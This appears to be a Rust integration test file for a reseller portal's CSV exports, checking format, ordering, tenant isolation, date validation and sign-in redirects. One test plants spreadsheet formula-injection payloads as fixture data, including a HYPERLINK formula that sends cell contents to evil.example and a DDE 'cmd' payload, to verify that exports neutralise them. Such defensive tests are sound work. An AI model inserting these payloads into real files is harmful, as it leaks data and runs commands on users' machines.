//! The CSV exports, downloaded as a browser downloads them: the customer list's customers and
//! their subscriptions (the whole book and a search, against what the database holds), the
//! activity log by day, the file's exact shape, tenancy, bad dates and signed-out visitors.

use chrono::{DateTime, Utc};

use crate::api_client::Api;
use crate::helpers::{
    CONTOSO, NORTHWIND, Page, TestApp, add_licenses, details, load_book, portal_command, spawn_app,
    spawn_app_with,
};

const CUSTOMERS: &str = "/customers/export/customers.csv";
const SUBSCRIPTIONS: &str = "/customers/export/subscriptions.csv";
const ACTIVITY: &str = "/activity/export.csv";

const CUSTOMERS_HEADER: &str =
    "Customer ID,Company name,Primary domain name,Relationship,Delegated admin";
const SUBSCRIPTIONS_HEADER: &str = "Customer ID,Company name,Subscription ID,Friendly name,Offer ID,Offer,Quantity,Assigned,Status,Billing cycle,Created";
const ACTIVITY_HEADER: &str = "At,User,Action,Customer ID,Company name,Subscription ID,Friendly name,Before quantity,Before status,After quantity,After status,API token,Attempts,Bulk job";

/// A downloaded CSV file, checked for its shape: a 200 attachment of `text/csv` in UTF-8, the
/// byte-order mark first, then `header` exactly. Its rows, parsed.
#[track_caller]
fn rows(page: &Page, header: &str) -> Vec<Vec<String>> {
    page.assert_status(200);
    let header_value = |name: &str| {
        page.headers
            .get(name)
            .map(|v| v.to_str().unwrap().to_owned())
            .unwrap_or_default()
    };
    assert_eq!(header_value("content-type"), "text/csv; charset=utf-8");
    let disposition = header_value("content-disposition");
    assert!(
        disposition.starts_with("attachment; filename=\"") && disposition.ends_with(".csv\""),
        "{disposition}"
    );
    assert!(
        page.body.as_bytes().starts_with(&[0xEF, 0xBB, 0xBF]),
        "a byte-order mark first: {:?}",
        &page.body[..page.body.len().min(40)]
    );
    let text = &page.body[3..];
    assert_eq!(text.split("\r\n").next().unwrap(), header);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// One column of every row of a query, in its order.
pub(crate) async fn column(app: &TestApp, sql: &str) -> Vec<String> {
    use sea_orm::{ConnectionTrait, Statement};
    app.db
        .query_all_raw(Statement::from_string(
            app.db.get_database_backend(),
            sql.to_owned(),
        ))
        .await
        .unwrap()
        .into_iter()
        .map(|r| r.try_get_by_index::<String>(0).unwrap())
        .collect()
}

fn firsts(rows: &[Vec<String>], at: usize) -> Vec<String> {
    rows.iter().map(|r| r[at].clone()).collect()
}

#[actix_web::test]
async fn the_customers_file_is_the_resellers_whole_list_in_its_order() {
    // Arrange
    let app = spawn_app().await;
    app.sign_in(CONTOSO).await;

    // Act
    let file = app.get(CUSTOMERS).await;

    // Assert: the reseller's customers, in the customer list's order, as the database holds
    // them; Chinese names whole.
    let rows = rows(&file, CUSTOMERS_HEADER);
    let expected = column(
        &app,
        "SELECT c.id || '|' || c.company_name || '|' || c.domain || '|' || \
         CASE WHEN r.delegated_admin THEN 'yes' ELSE 'no' END \
         FROM relationships r JOIN customers c ON c.id = r.customer_id \
         WHERE r.reseller_id = 'contoso' ORDER BY r.sort_key, r.customer_id",
    )
    .await;
    assert!(expected.len() > 20, "the demo book");
    let got: Vec<String> = rows
        .iter()
        .map(|r| {
            assert_eq!(r[3], "Reseller");
            format!("{}|{}|{}|{}", r[0], r[1], r[2], r[4])
        })
        .collect();
    assert_eq!(got, expected);
    assert!(got.contains(&"c-fabrikam|Fabrikam 科技|fabrikam.partner.onmschina.cn|yes".to_owned()));
    // Woodgrove has not granted delegated admin privileges (the list says so too).
    assert!(rows.iter().any(|r| r[0] == "c-woodgrove" && r[4] == "no"));
    // Northwind's own customer is not Contoso's.
    assert!(!file.body.contains("c-margie"));
    let name = file.headers.get("content-disposition").unwrap();
    assert!(
        name.to_str().unwrap().contains("customers-contoso-"),
        "{name:?}"
    );
}

#[actix_web::test]
async fn the_subscriptions_file_holds_what_the_reseller_sold_as_the_pages_show_it() {
    // Arrange
    let app = spawn_app().await;
    app.sign_in(CONTOSO).await;

    // Act
    let file = app.get(SUBSCRIPTIONS).await;

    // Assert: every subscription Contoso sold to its customers, and nothing else.
    let rows = rows(&file, SUBSCRIPTIONS_HEADER);
    let mut ids = firsts(&rows, 2);
    ids.sort();
    let expected = column(
        &app,
        "SELECT s.id FROM subscriptions s JOIN relationships r \
         ON r.customer_id = s.customer_id AND r.reseller_id = 'contoso' \
         WHERE s.sold_by = 'contoso' ORDER BY s.id",
    )
    .await;
    assert_eq!(ids, expected);
    // One row in full, the offer named in the page's language (Chinese by default).
    let essentials = rows
        .iter()
        .find(|r| r[2] == "s-fabrikam-essentials")
        .unwrap();
    assert_eq!(
        essentials,
        &[
            "c-fabrikam",
            "Fabrikam 科技",
            "s-fabrikam-essentials",
            "Essentials for sales",
            "O365_BUSINESS_ESSENTIALS",
            "Office 365 商业协作版",
            "25",
            "20",
            "active",
            "monthly",
            "2026-03-01",
        ]
    );
    // Statuses as stored; Wingtip's is suspended, Tailspin's old one cancelled.
    assert!(
        rows.iter()
            .all(|r| ["active", "suspended", "cancelled"].contains(&r[8].as_str()))
    );
    assert!(
        rows.iter()
            .any(|r| r[2] == "s-wingtip-essentials" && r[8] == "suspended")
    );
    assert!(
        rows.iter()
            .any(|r| r[2] == "s-tailspin-premium" && r[8] == "cancelled")
    );
    // Neither what the customer bought directly nor what Northwind sold a shared customer.
    for other in [
        "s-proseware-direct-business",
        "s-fourth-northwind-exchange",
        "s-margie-essentials",
    ] {
        assert!(!file.body.contains(other), "{other}");
    }
    // Customer by customer in the list's order.
    let order = column(
        &app,
        "SELECT r.customer_id FROM relationships r WHERE r.reseller_id = 'contoso' \
         AND EXISTS (SELECT 1 FROM subscriptions s WHERE s.customer_id = r.customer_id \
         AND s.sold_by = 'contoso') ORDER BY r.sort_key, r.customer_id",
    )
    .await;
    let mut seen = firsts(&rows, 0);
    seen.dedup();
    assert_eq!(seen, order);

    // In English, the offer's English name; the header stays as it is.
    app.prefer("en-US");
    let english = rows_of_english(&app).await;
    let essentials = english
        .iter()
        .find(|r| r[2] == "s-fabrikam-essentials")
        .unwrap();
    assert_eq!(essentials[5], "Office 365 Business Essentials");
}

async fn rows_of_english(app: &TestApp) -> Vec<Vec<String>> {
    rows(&app.get(SUBSCRIPTIONS).await, SUBSCRIPTIONS_HEADER)
}

#[actix_web::test]
async fn a_search_exports_the_customers_it_finds_and_their_subscriptions() {
    // Arrange
    let app = spawn_app().await;
    app.sign_in(CONTOSO).await;
    // The list links its exports with the search.
    let list = app.get("/?q=%E7%A7%91%E6%8A%80").await;
    list.assert_contains("href=\"/customers/export/customers.csv?q=%E7%A7%91%E6%8A%80\"")
        .assert_contains("href=\"/customers/export/subscriptions.csv?q=%E7%A7%91%E6%8A%80\"")
        .assert_contains("导出客户（CSV）")
        .assert_contains("导出订阅（CSV）");

    // Act: "科技" (technology).
    let customers = rows(
        &app.get(&format!("{CUSTOMERS}?q=%E7%A7%91%E6%8A%80")).await,
        CUSTOMERS_HEADER,
    );
    let subscriptions = rows(
        &app.get(&format!("{SUBSCRIPTIONS}?q=%E7%A7%91%E6%8A%80"))
            .await,
        SUBSCRIPTIONS_HEADER,
    );

    // Assert: what the database holds for that search, and only that.
    let expected = column(
        &app,
        "SELECT customer_id FROM relationships WHERE reseller_id = 'contoso' \
         AND search_text LIKE '%科技%' ORDER BY sort_key, customer_id",
    )
    .await;
    assert!(!expected.is_empty() && expected.len() < 20);
    assert_eq!(firsts(&customers, 0), expected);
    assert!(customers.iter().all(|r| r[1].contains("科技")));
    let sold = column(
        &app,
        "SELECT s.id FROM subscriptions s JOIN relationships r \
         ON r.customer_id = s.customer_id AND r.reseller_id = 'contoso' \
         WHERE s.sold_by = 'contoso' AND r.search_text LIKE '%科技%' ORDER BY s.id",
    )
    .await;
    let mut ids = firsts(&subscriptions, 2);
    ids.sort();
    assert_eq!(ids, sold);

    // A search that finds one customer; one that finds none still gives the header.
    let fabrikam = rows(
        &app.get(&format!("{SUBSCRIPTIONS}?q=fabrikam")).await,
        SUBSCRIPTIONS_HEADER,
    );
    assert_eq!(
        fabrikam.len() as i64,
        app.count("subscriptions WHERE customer_id = 'c-fabrikam' AND sold_by = 'contoso'")
            .await
    );
    assert!(fabrikam.iter().all(|r| r[0] == "c-fabrikam"));
    let none = app.get(&format!("{CUSTOMERS}?q=no-such-customer")).await;
    assert!(rows(&none, CUSTOMERS_HEADER).is_empty());
    assert_eq!(none.body, format!("\u{feff}{CUSTOMERS_HEADER}\r\n"));
}

#[actix_web::test]
async fn another_resellers_customers_and_subscriptions_never_appear() {
    // Arrange
    let app = spawn_app().await;
    app.sign_in(NORTHWIND).await;

    // Act
    let customers = rows(&app.get(CUSTOMERS).await, CUSTOMERS_HEADER);
    let subscriptions = rows(&app.get(SUBSCRIPTIONS).await, SUBSCRIPTIONS_HEADER);
    let searched = rows(
        &app.get(&format!("{CUSTOMERS}?q=fabrikam")).await,
        CUSTOMERS_HEADER,
    );

    // Assert
    let mut ids = firsts(&customers, 0);
    ids.sort();
    assert_eq!(ids, ["c-fourth", "c-margie"]);
    assert!(searched.is_empty());
    let mut sold = firsts(&subscriptions, 2);
    sold.sort();
    assert_eq!(
        sold,
        column(
            &app,
            "SELECT id FROM subscriptions WHERE sold_by = 'northwind' ORDER BY id"
        )
        .await
    );
    // The shared customer's subscription Contoso sold stays Contoso's.
    assert!(!sold.contains(&"s-fourth-proplus".to_owned()));
    // Contoso's activity is not in Northwind's log.
    let activity = rows(&app.get(ACTIVITY).await, ACTIVITY_HEADER);
    assert!(
        activity
            .iter()
            .all(|r| r[1].ends_with("@northwind.example"))
    );
    // Nor may Northwind filter it by a customer of Contoso's.
    app.get(&format!("{ACTIVITY}?customer=c-fabrikam"))
        .await
        .assert_status(404);
}

fn at(rfc3339: &str) -> DateTime<Utc> {
    DateTime::parse_from_rfc3339(rfc3339).unwrap().into()
}

#[actix_web::test]
async fn the_activity_file_keeps_the_days_asked_for_in_china_time() {
    // Arrange: a change late on 20 July and one early on 21 July in China, the same day in UTC.
    let app = spawn_app_with(&[("PORTAL_CLOCK", "2026-07-20T23:30:00+08:00")]).await;
    app.sign_in(CONTOSO).await;
    let licenses = format!(
        "{}/licenses",
        details("c-fabrikam", "s-fabrikam-essentials")
    );
    app.post(&licenses, &[("licenses", "26"), ("version", "0")])
        .await
        .assert_status(303);
    app.clock.set(at("2026-07-21T00:30:00+08:00"));
    app.post(&licenses, &[("licenses", "27"), ("version", "1")])
        .await
        .assert_status(303);

    // Act
    let on_21st = rows(
        &app.get(&format!("{ACTIVITY}?from=2026-07-21&to=2026-07-21"))
            .await,
        ACTIVITY_HEADER,
    );
    let to_20th = rows(
        &app.get(&format!("{ACTIVITY}?to=2026-07-20")).await,
        ACTIVITY_HEADER,
    );
    let all = rows(&app.get(ACTIVITY).await, ACTIVITY_HEADER);
    let later = rows(
        &app.get(&format!("{ACTIVITY}?from=2026-07-22")).await,
        ACTIVITY_HEADER,
    );

    // Assert
    assert_eq!(
        on_21st,
        [[
            "2026-07-21T00:30:00+08:00",
            "admin@contoso.example",
            "licenses",
            "c-fabrikam",
            "Fabrikam 科技",
            "s-fabrikam-essentials",
            "Essentials for sales",
            "26",
            "active",
            "27",
            "active",
            "",
            "",
            "",
        ]]
    );
    // The sign-in and the first change, newest first.
    assert_eq!(firsts(&to_20th, 2), ["licenses", "sign_in"]);
    assert_eq!(to_20th[0][0], "2026-07-20T23:30:00+08:00");
    assert_eq!(to_20th[0][9], "26");
    assert!(later.is_empty());
    assert_eq!(
        all.len() as i64,
        app.count("activity WHERE reseller_id = 'contoso'").await
    );
    // The page filters alike, and offers the export of what it shows.
    let page = app.get("/activity?from=2026-07-21&to=2026-07-21").await;
    page.assert_status(200)
        .assert_contains("value=\"2026-07-21\"")
        .assert_contains("formaction=\"/activity/export.csv\"")
        .assert_contains("导出活动日志（CSV）")
        .assert_contains("共 1 条记录");
    // A customer's log, by day.
    let fabrikam = rows(
        &app.get(&format!("{ACTIVITY}?customer=c-fabrikam&from=2026-07-20"))
            .await,
        ACTIVITY_HEADER,
    );
    assert_eq!(firsts(&fabrikam, 9), ["27", "26"]);
}

#[actix_web::test]
async fn the_log_counts_its_records_up_to_two_hundred_and_a_customers_exactly() {
    use sea_orm::ConnectionTrait;
    // Arrange: a change to one customer, then the reseller's log made longer than the count
    // goes (copies of its first record).
    let app = spawn_app().await;
    app.sign_in(CONTOSO).await;
    add_licenses(&app, "s-fabrikam-essentials", 1).await;
    app.db
        .execute_unprepared(
            "INSERT INTO activity (reseller_id, user_email, at, action) \
             WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 250) \
             SELECT a.reseller_id, a.user_email, a.at, a.action FROM activity a CROSS JOIN n \
             WHERE a.id = (SELECT MIN(id) FROM activity WHERE reseller_id = 'contoso')",
        )
        .await
        .unwrap();
    assert!(app.count("activity WHERE reseller_id = 'contoso'").await > 250);
    let fabrikam = app
        .count("activity WHERE reseller_id = 'contoso' AND customer_id = 'c-fabrikam'")
        .await;
    assert!(fabrikam > 0);

    // Act
    let all = app.get("/activity").await;
    let one = app.get("/activity?customer=c-fabrikam").await;

    // Assert: the whole log counted to its bound; the customer's few, exactly.
    all.assert_status(200).assert_contains("共 200+ 条记录");
    one.assert_status(200)
        .assert_contains(&format!("共 {fabrikam} 条记录"));
}

#[actix_web::test]
async fn a_bad_date_is_named_beside_its_field_and_nothing_crashes() {
    let app = spawn_app().await;
    app.sign_in(CONTOSO).await;
    for path in ["/activity", ACTIVITY] {
        // Act
        let page = app
            .get(&format!("{path}?from=2026-13-01&to=2026-07-20"))
            .await;

        // Assert: the activity page with the message beside the field, what was typed kept.
        page.assert_status(422)
            .assert_contains("id=\"from-error\"")
            .assert_contains("请按 YYYY-MM-DD 格式输入日期")
            .assert_contains("aria-invalid=\"true\" aria-describedby=\"from-error\"")
            .assert_contains("value=\"2026-13-01\"")
            .assert_lacks("id=\"to-error\"");
        assert!(
            page.headers
                .get("content-type")
                .unwrap()
                .to_str()
                .unwrap()
                .starts_with("text/html"),
            "{path}"
        );
        // An end before the start is the end's fault.
        let page = app
            .get(&format!("{path}?from=2026-07-21&to=2026-07-20"))
            .await;
        page.assert_status(422)
            .assert_contains("id=\"to-error\"")
            .assert_contains("结束日期不能早于开始日期");
        for raw in [
            "yesterday",
            "2026-02-30",
            "%FF%FE",
            "99999-01-01",
            "2026-7-1",
        ] {
            let page = app.get(&format!("{path}?to={raw}")).await;
            page.assert_status(422).assert_contains("id=\"to-error\"");
        }
    }
    app.prefer("en-US");
    app.get(&format!("{ACTIVITY}?from=x"))
        .await
        .assert_status(422)
        .assert_contains("Enter a date as YYYY-MM-DD");
}

#[actix_web::test]
async fn signed_out_visitors_are_sent_to_sign_in() {
    let app = spawn_app().await;
    for path in [
        CUSTOMERS.to_owned(),
        format!("{SUBSCRIPTIONS}?q=fabrikam"),
        format!("{ACTIVITY}?from=2026-07-20"),
    ] {
        let page = app.get(&path).await;
        page.assert_sent_to_sign_in();
        assert!(!page.body.contains("Fabrikam"), "{path}");
    }
}

#[actix_web::test]
async fn a_book_larger_than_a_batch_exports_every_row_once_in_order() {
    // Arrange: 1,200 customers (three batches of 500) with 5 subscriptions each.
    let app = spawn_app().await;
    let out = portal_command(
        &app,
        &[
            "seed",
            "--customers",
            "1200",
            "--subscriptions-per-customer",
            "5",
        ],
    );
    assert!(out.success, "{out:?}");
    app.sign_in(("admin@bigbook.example", "bigbook-demo")).await;

    // Act
    let customers = rows(&app.get(CUSTOMERS).await, CUSTOMERS_HEADER);
    let subscriptions = rows(&app.get(SUBSCRIPTIONS).await, SUBSCRIPTIONS_HEADER);
    let searched = rows(
        &app.get(&format!("{SUBSCRIPTIONS}?q=%E7%A7%91%E6%8A%80"))
            .await,
        SUBSCRIPTIONS_HEADER,
    );

    // Assert: every customer once, in the list's order, across the batches.
    assert_eq!(
        firsts(&customers, 0),
        column(
            &app,
            "SELECT customer_id FROM relationships WHERE reseller_id = 'bigbook' \
             ORDER BY sort_key, customer_id"
        )
        .await
    );
    let mut ids = firsts(&subscriptions, 2);
    ids.sort();
    let sold = column(
        &app,
        "SELECT s.id FROM subscriptions s JOIN relationships r \
         ON r.customer_id = s.customer_id AND r.reseller_id = 'bigbook' \
         WHERE s.sold_by = 'bigbook' ORDER BY s.id",
    )
    .await;
    assert!(sold.len() > 4000);
    assert_eq!(ids, sold);
    assert_eq!(
        searched.len() as i64,
        app.count(
            "subscriptions s JOIN relationships r ON r.customer_id = s.customer_id \
             AND r.reseller_id = 'bigbook' WHERE s.sold_by = 'bigbook' \
             AND r.search_text LIKE '%科技%'"
        )
        .await
    );
}

/// OWASP's list of what a cell that a spreadsheet runs as a formula begins with.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Every cell of a downloaded file as a spreadsheet reads it: none begins a formula, except a
/// plain number (`-165.00`), which a spreadsheet reads as that number.
#[track_caller]
fn assert_no_formula(file: &str, records: &[Vec<String>]) {
    for record in records {
        for cell in record {
            let number = cell.strip_prefix('-').is_some_and(|n| {
                n.split('.').count() <= 2
                    && n.split('.')
                        .all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit()))
            });
            assert!(
                !cell.starts_with(FORMULA_STARTS) || number,
                "{file}: {cell:?} would run as a formula: {record:?}"
            );
        }
    }
}

/// The record of `records` whose column `at` is `value`.
#[track_caller]
fn record<'a>(records: &'a [Vec<String>], at: usize, value: &str) -> &'a Vec<String> {
    records
        .iter()
        .find(|r| r[at] == value)
        .unwrap_or_else(|| panic!("no {value:?} in column {at} of {records:?}"))
}

const CHARGES_HEADER: &str = "CustomerId,CustomerName,DomainName,SubscriptionId,SubscriptionName,OfferId,OfferName,ChargeType,ChargeStartDate,ChargeEndDate,Quantity,UnitPrice,Amount,Currency";
const RESULTS_HEADER: &str = "Subscription ID,Action,Result,Code,Message,Target subscription ID";

/// A reseller whose customers, subscriptions and API token are named like formulas (as anyone
/// who can name one may), on 20 August 2026: billing day 15, prices for E3 and E1.
async fn formula_portal() -> TestApp {
    let app = spawn_app_with(&[("PORTAL_CLOCK", "2026-08-20T10:00:00+08:00")]).await;
    load_book(
        &app,
        r#"{
  "resellers": [{ "id": "formula", "name": "Formula 云", "billing_day": 15,
    "users": [{ "email": "admin@formula.example", "password": "formula-demo", "admin": true }] }],
  "customers": [
    { "id": "c-formula", "company_name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
      "domain": "formula.partner.onmschina.cn",
      "relationships": [{ "reseller": "formula", "delegated_admin": true }] },
    { "id": "-c-minus", "company_name": "-2+3 贸易", "domain": "minus.partner.onmschina.cn",
      "relationships": [{ "reseller": "formula", "delegated_admin": true }] }],
  "subscriptions": [
    { "id": "-s-minus", "customer": "c-formula", "offer": "O365_E3",
      "friendly_name": "+cmd|' /C calc'!A0", "quantity": 15, "sold_by": "formula", "created": "2026-01-10" },
    { "id": "s-apostrophe", "customer": "c-formula", "offer": "O365_E1",
      "friendly_name": "'=1+2", "quantity": 5, "sold_by": "formula", "created": "2026-01-10" },
    { "id": "s-plain", "customer": "-c-minus", "offer": "O365_E3",
      "friendly_name": "Staff", "quantity": 3, "sold_by": "formula", "created": "2026-01-10" }
  ]
}"#,
        "Offer ID,Currency,Unit Price,Valid From\nO365_E3,CNY,11,2026-01-01\nO365_E1,CNY,8,2026-01-01\n",
    );
    app
}

#[actix_web::test]
async fn no_csv_holds_a_formula_and_an_edited_export_uploads_as_it_was() {
    // Arrange: a token named like a formula makes a change through the API; a bulk file's lines
    // name formulas instead of subscriptions.
    let app = formula_portal().await;
    let out = portal_command(
        &app,
        &[
            "api-token",
            "create",
            "--user",
            "admin@formula.example",
            "--name",
            "@SUM(1+1)",
        ],
    );
    assert!(out.success, "{out:?}");
    let api = Api::with_token(&app, out.stdout.trim());
    api.patch(
        "/v1/customers/c-formula/subscriptions/s-apostrophe",
        &[],
        serde_json::json!({ "quantity": 6 }),
    )
    .await
    .assert_status(200);
    app.sign_in(("admin@formula.example", "formula-demo")).await;
    app.get("/bulk").await.assert_status(200);
    let bad = app
        .submit(
            "/bulk/file",
            &[
                (
                    "rows",
                    "Subscription ID,Action,Quantity\n=1+2,suspend,\n@SUM(A1),suspend,\ns-plain,licenses,5\n",
                ),
                ("file_name", "bad.csv"),
            ],
        )
        .await;
    bad.assert_status(303);
    let job = bad.location.clone().unwrap();
    app.get(&job).await.assert_status(200);
    app.submit(&format!("{job}/start"), &[])
        .await
        .assert_redirect(&job);
    let id: i32 = job.rsplit('/').next().unwrap().parse().unwrap();
    assert_eq!(crate::bulk::finished(&app, id).await, "done");

    // Act: every CSV the reseller can download.
    let customers = rows(&app.get(CUSTOMERS).await, CUSTOMERS_HEADER);
    let subscriptions_file = app.get(SUBSCRIPTIONS).await;
    let subscriptions = rows(&subscriptions_file, SUBSCRIPTIONS_HEADER);
    let activity = rows(&app.get(ACTIVITY).await, ACTIVITY_HEADER);
    let charges = rows(
        &app.get("/charges.csv?date=2026-08-15").await,
        CHARGES_HEADER,
    );
    let results = rows(
        &app.get(&format!("{job}/results.csv")).await,
        RESULTS_HEADER,
    );

    // Assert: each name that starts a formula is written with a `'` in front; a name that
    // already starts with `'` and a formula gets one more; numbers stay numbers.
    for (file, records) in [
        ("customers", &customers),
        ("subscriptions", &subscriptions),
        ("activity", &activity),
        ("charges", &charges),
        ("results", &results),
    ] {
        assert!(!records.is_empty(), "{file}");
        assert_no_formula(file, records);
    }
    let hyperlink = "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
    assert_eq!(record(&customers, 0, "c-formula")[1], hyperlink);
    assert_eq!(record(&customers, 0, "'-c-minus")[1], "'-2+3 贸易");
    let minus = record(&subscriptions, 2, "'-s-minus");
    assert_eq!(minus[1], hyperlink);
    assert_eq!(minus[3], "'+cmd|' /C calc'!A0");
    assert_eq!(record(&subscriptions, 2, "s-apostrophe")[3], "''=1+2");
    assert_eq!(record(&subscriptions, 2, "s-plain")[0], "'-c-minus");
    let via_token = record(&activity, 11, "'@SUM(1+1)");
    assert_eq!(via_token[4], hyperlink);
    assert_eq!(via_token[6], "''=1+2");
    let reversal = charges
        .iter()
        .find(|r| r[3] == "'-s-minus" && r[7] == "advance_reversal")
        .unwrap_or_else(|| panic!("{charges:?}"));
    assert_eq!(
        (reversal[1].as_str(), reversal[4].as_str()),
        (hyperlink, "'+cmd|' /C calc'!A0")
    );
    assert_eq!(reversal[12], "-165.00", "a credit stays a number");
    // (A file with no line to run is no job: its last line runs.)
    assert_eq!(firsts(&results, 0), ["'=1+2", "'@SUM(A1)", "s-plain"]);
    assert!(
        results[..2]
            .iter()
            .all(|r| r[3] == "invalid_subscription_id")
    );

    // Act: the subscriptions export, edited as the Bulk changes page says (an Action column, one
    // more license each), uploaded as it is.
    let mut reader = csv::Reader::from_reader(&subscriptions_file.body.as_bytes()[3..]);
    let mut edited = csv::Writer::from_writer(Vec::new());
    let mut header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    header.push("Action".into());
    edited.write_record(&header).unwrap();
    for r in reader.records() {
        let mut r: Vec<String> = r.unwrap().iter().map(str::to_owned).collect();
        r[6] = (r[6].parse::<u32>().unwrap() + 1).to_string();
        r.push("licenses".into());
        edited.write_record(&r).unwrap();
    }
    let edited = String::from_utf8(edited.into_inner().unwrap()).unwrap();
    assert!(edited.contains("'-s-minus,"), "{edited}");
    let page = app
        .submit(
            "/bulk/file",
            &[("rows", &edited), ("file_name", "edited.csv")],
        )
        .await;
    page.assert_status(303);
    let job = page.location.clone().unwrap();

    // Assert: each line names its subscription as the export had it before the `'`, and the
    // changes are made.
    let id: i32 = job.rsplit('/').next().unwrap().parse().unwrap();
    let named = column(
        &app,
        &format!(
            "SELECT subscription_id || ' ' || state FROM job_rows WHERE job_id = {id} \
             ORDER BY subscription_id"
        ),
    )
    .await;
    assert_eq!(
        named,
        [
            "-s-minus pending",
            "s-apostrophe pending",
            "s-plain pending"
        ]
    );
    app.get(&job).await.assert_status(200);
    app.submit(&format!("{job}/start"), &[])
        .await
        .assert_redirect(&job);
    for _ in 0..300 {
        if app
            .count(&format!("jobs WHERE id = {id} AND state = 'done'"))
            .await
            == 1
        {
            break;
        }
        actix_web::rt::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert_eq!(
        column(
            &app,
            "SELECT id || ' ' || quantity FROM subscriptions WHERE sold_by = 'formula' ORDER BY id"
        )
        .await,
        ["-s-minus 16", "s-apostrophe 7", "s-plain 6"]
    );
}

#[actix_web::test]
async fn the_charges_file_is_streamed_and_the_same_as_the_commands() {
    // Arrange: a book of about a thousand subscriptions, more than one stretch of the file.
    let app = spawn_app_with(&[("PORTAL_CLOCK", "2026-08-20T10:00:00+08:00")]).await;
    let out = portal_command(&app, &["seed", "--customers", "120"]);
    assert!(out.success, "{}", out.stderr);
    app.sign_in(("admin@bigbook.example", "bigbook-demo")).await;
    let day: u32 = app
        .value("SELECT billing_day FROM resellers WHERE id = 'bigbook'")
        .await
        .unwrap()
        .parse()
        .unwrap();
    let date = if day <= 20 {
        format!("2026-08-{day:02}")
    } else {
        format!("2026-07-{day:02}")
    };

    // Act
    let page = app.get(&format!("/charges.csv?date={date}")).await;
    let out = portal_command(
        &app,
        &[
            "charges",
            "--reseller",
            "bigbook",
            "--invoice-date",
            &date,
            "--language",
            "zh-CN",
        ],
    );

    // Assert: sent as it is written (chunked, no length known up front), every subscription's
    // lines once, and the same file as `portal charges`.
    let records = rows(&page, CHARGES_HEADER);
    assert_eq!(
        page.headers
            .get("transfer-encoding")
            .map(|v| v.to_str().unwrap()),
        Some("chunked"),
        "{:?}",
        page.headers
    );
    assert!(page.headers.get("content-length").is_none());
    assert!(out.success, "{out:?}");
    assert_eq!(page.body, format!("\u{feff}{}", out.stdout));
    let mut subscriptions = firsts(&records, 3);
    subscriptions.dedup();
    let charged = subscriptions.len();
    subscriptions.sort();
    subscriptions.dedup();
    assert_eq!(
        subscriptions.len(),
        charged,
        "each subscription's lines together, once"
    );
    assert!(charged > 500, "more than one stretch: {charged}");
}
